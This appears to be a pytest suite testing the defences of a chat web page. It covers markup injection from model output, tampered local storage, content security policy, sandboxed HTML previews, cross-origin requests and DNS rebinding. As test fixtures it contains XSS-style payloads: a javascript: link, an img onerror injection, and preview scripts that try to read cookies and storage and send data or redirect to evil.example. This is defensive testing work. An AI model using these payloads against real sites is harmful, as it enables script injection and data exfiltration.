"""Attacks on the chat page and through it: markup, storage, other origins, rebound names."""

import json
import time

import httpx
import pytest

from page_visitor import ATTACK, CHAT, PATIENCE, call, stream


def test_no_markup_from_anywhere_becomes_part_of_the_page(visit, start):
    server = start("--served-model-name", ATTACK)
    visitor = visit(server)
    visitor.page.wait_for_selector("#model option", state="attached")
    visitor.answers_with(
        stream({"reasoning_content": ATTACK},
               {"content": f"{ATTACK}\n\n# {ATTACK}\n\n- {ATTACK}\n\n> {ATTACK}\n\n`{ATTACK}` **{ATTACK}**\n\n"
                           f"|a|{ATTACK}|\n|-|-|\n|{ATTACK}|b|\n\n```{ATTACK.replace(' ', '')}\n{ATTACK}\n```\n\n"
                           "[x](javascript:pwned=1) ![x](https://evil.example/x.png) <https://evil.example>"},
               call(ATTACK, json.dumps({ATTACK: ATTACK}), call_id=ATTACK), finish="tool_calls"))
    visitor.setting(system=ATTACK, tools=json.dumps([{"name": ATTACK, "description": ATTACK}]))
    visitor.ask(ATTACK)
    visitor.page.fill("#title", ATTACK)
    visitor.page.press("#title", "Enter")
    visitor.page.get_by_label("Result of").fill(ATTACK)
    visitor.page.get_by_role("button", name="Send the result").click()
    visitor.wait()
    for _ in range(2):
        visitor.page.wait_for_selector(".assistant")
        for summary in visitor.page.query_selector_all("summary"):
            summary.click()
        assert ATTACK in visitor.text(".user .text")
        answer = visitor.text(".assistant >> nth=0")
        assert answer.count(ATTACK) >= 10, answer
        assert visitor.page.title() == ATTACK + " · Lapidary"
        assert ATTACK in visitor.text("#conversations")
        assert visitor.page.evaluate("document.scripts.length") == 1
        assert visitor.page.evaluate(
            "document.querySelectorAll('main :is(script, img, iframe, object, [onerror], [onload])').length") == 0
        links = visitor.page.eval_on_selector_all("main a", "all => all.map(a => a.href)")
        assert set(links) == {"https://evil.example/x.png", "https://evil.example/"}, "links, to be clicked at most"
        visitor.page.reload()
    errors = visit(server)
    errors.expected_problems = ["400 (Bad Request)"]
    errors.answers_with(json.dumps({"error": {"message": ATTACK}}), status=400)
    errors.ask("Hello")
    assert ATTACK in errors.text(".error")


def test_storage_written_by_another_hand_is_harmless(visitor):
    visitor.page.evaluate("""(attack) => {
        localStorage['lapidary.conversation.a'] = JSON.stringify({title: attack, messages: [{role: 'user', content: attack},
            {role: 'assistant', content: attack, tool_calls: [{name: attack}, null], note: attack, error: attack, stats: attack}]});
        localStorage['lapidary.conversation.b'] = '{broken';
        localStorage['lapidary.conversation.c'] = JSON.stringify({messages: [{role: 'king', content: 3}, null, {role: 'user', content: 7}]});
        localStorage['lapidary.current'] = 'a';
        localStorage['lapidary.settings'] = '[]';
        localStorage['lapidary.theme'] = attack;
    }""", ATTACK)
    visitor.page.reload()
    assert ATTACK in visitor.text(".user .text") and ATTACK in visitor.text(".error")
    visitor.page.click("#conversations .open >> nth=1")


def test_the_policy_stops_what_the_page_would_let_through(visit, server):
    visitor = visit(server)
    refused = visitor.page.evaluate("""() => {
        try { document.body.innerHTML += '<img src=x onerror="pwned=1">'; } catch (error) { return error.name; }
    }""")
    assert refused == "TypeError"
    visitor.page.evaluate("""() => new Promise((resolve) => {
        addEventListener('securitypolicyviolation', resolve);
        const image = document.createElement('img');
        image.src = 'https://evil.example/leak';
        document.body.append(image);
    })""")
    with pytest.raises(Exception, match="Failed to fetch"):
        visitor.page.evaluate("fetch('https://evil.example/leak')")
    blocked = visitor.page.evaluate("violations.splice(0)")
    assert any(item.startswith("img-src") for item in blocked)
    assert any(item.startswith("connect-src") for item in blocked)
    visitor.requests.clear()  # Chromium lists the requests that it then refuses to make.
    visitor.problems.clear()


HTML = """```html
<!doctype html><style>p { color: rgb(1, 2, 3) }</style><p id="log"></p><form action="/v1/models"></form>
<script>
const log = (name, what) => { document.getElementById('log').textContent += name + ': ' + what + '; '; };
const attempt = (name, act) => { try { log(name, act()); } catch (error) { log(name, error.name); } };
attempt('origin', () => self.origin);
attempt('parent', () => parent.document.title);
attempt('storage', () => localStorage.length);
attempt('cookie', () => document.cookie);
attempt('top', () => { top.location = 'https://evil.example/'; });
attempt('popup', () => String(window.open('https://evil.example/')));
attempt('dialog', () => String(confirm('?')));
document.forms[0].submit();
new Image().src = 'https://evil.example/leak.png';
const tries = ['https://evil.example/leak', location.origin + '/v1/models', '/v1/models', 'data:text/plain,x'];
Promise.all(tries.map((url) => fetch(url).then(() => 'reached', (error) => error.name))).then((all) => log('fetch', all));
</script>
```"""


def test_a_preview_reaches_nothing(visitor):
    visitor.answers_with(stream({"content": HTML}))
    visitor.ask("Hello")
    assert visitor.page.locator("iframe").count() == 0, "nothing runs before it is asked for"
    visitor.page.get_by_role("button", name="Preview the html code").click()
    frame = visitor.page.locator("iframe")
    assert frame.get_attribute("sandbox") == "allow-scripts"
    inside = visitor.page.frame_locator("iframe")
    inside.locator("text=fetch: ").wait_for()
    said = dict(item.split(": ") for item in inside.locator("#log").inner_text().strip("; ").split("; "))
    assert said == {"origin": "null", "parent": "SecurityError", "storage": "SecurityError", "cookie": "SecurityError",
                    "top": "SecurityError", "popup": "null", "dialog": "false",
                    "fetch": ",".join(["TypeError"] * 4)}
    assert inside.locator("#log").evaluate("(log) => getComputedStyle(log).color") == "rgb(1, 2, 3)", "its own style holds"
    assert visitor.page.url == visitor.url and len(visitor.context.pages) == 1
    visitor.page.keyboard.press("Escape")
    visitor.page.wait_for_selector("iframe", state="detached")
    assert visitor.page.evaluate("violations") == [], "this page's own policy was not even asked"
    visitor.requests.clear()  # Chromium lists the requests that it then refuses to make.
    visitor.problems.clear()


def test_a_preview_cannot_leave_its_frame_for_another_place(visitor):
    visitor.answers_with(stream({"content": "```html\n<p>here</p><script>location = 'https://evil.example/?secret'</script>\n```"}))
    visitor.ask("Hello")
    visitor.page.get_by_role("button", name="Preview the html code").click()
    deadline = time.monotonic() + PATIENCE
    while not (blocked := visitor.page.evaluate("violations.splice(0)")):
        assert time.monotonic() < deadline, "the frame went elsewhere, or nowhere"
        time.sleep(0.02)
    assert blocked == ["frame-src https://evil.example"], blocked
    visitor.requests.clear()
    visitor.problems.clear()


def test_the_frame_of_a_preview_is_for_this_page_alone(server):
    preview = httpx.get(server.url + "/preview")
    policy = dict(part.strip().partition(" ")[::2] for part in preview.headers["content-security-policy"].split(";"))
    assert policy["sandbox"] == "allow-scripts" and policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'self'" and preview.headers["x-frame-options"] == "SAMEORIGIN"
    assert "connect-src" not in policy and policy["form-action"] == "'none'" and policy["base-uri"] == "'none'"
    assert preview.headers["cross-origin-resource-policy"] == "same-origin"


def test_a_page_of_another_origin_cannot_drive_the_server(browser, server, start):
    elsewhere = start()
    trusting = start("--allowed-origins", elsewhere.url)
    context = browser.new_context(bypass_csp=True)  # It is not our page that is locked out, but what it stands for.
    page = context.new_page()
    page.goto(elsewhere.url)

    def post(target, mode):
        # Text is what a page may send anywhere without asking first.
        return page.evaluate("""async ([url, mode]) => {
            const body = JSON.stringify({messages: [{role: 'user', content: 'Hello'}], max_tokens: 3});
            const response = await fetch(url, {method: 'POST', mode, body, headers: {'Content-Type': 'text/plain'}})
                .catch((error) => error);
            return response instanceof Error ? response.message : response.status;
        }""", [target.url + CHAT, mode])

    def asked(target):
        return target.metric("generation_tokens_total") or 0

    for target, reads, works in ((server, "Failed to fetch", False), (trusting, 200, True)):
        before = asked(target)
        post(target, "no-cors")
        assert (asked(target) > before) == works
        assert post(target, "cors") == reads
    context.close()
    assert elsewhere.stop() == 0 and trusting.stop() == 0


def test_a_name_rebound_to_this_machine_gets_nothing(browser, server):
    port = server.url.rsplit(":", 1)[1]
    with browser.browser_type.launch(executable_path=browser.chromium_path,
                                     args=["--host-resolver-rules=MAP rebound.example 127.0.0.1"]) as other:
        page = other.new_page()
        response = page.goto(f"http://rebound.example:{port}/")
        assert response.status == 403
        assert "rebound.example" in page.inner_text("body")
        assert page.goto(f"http://localhost:{port}/").status == 200
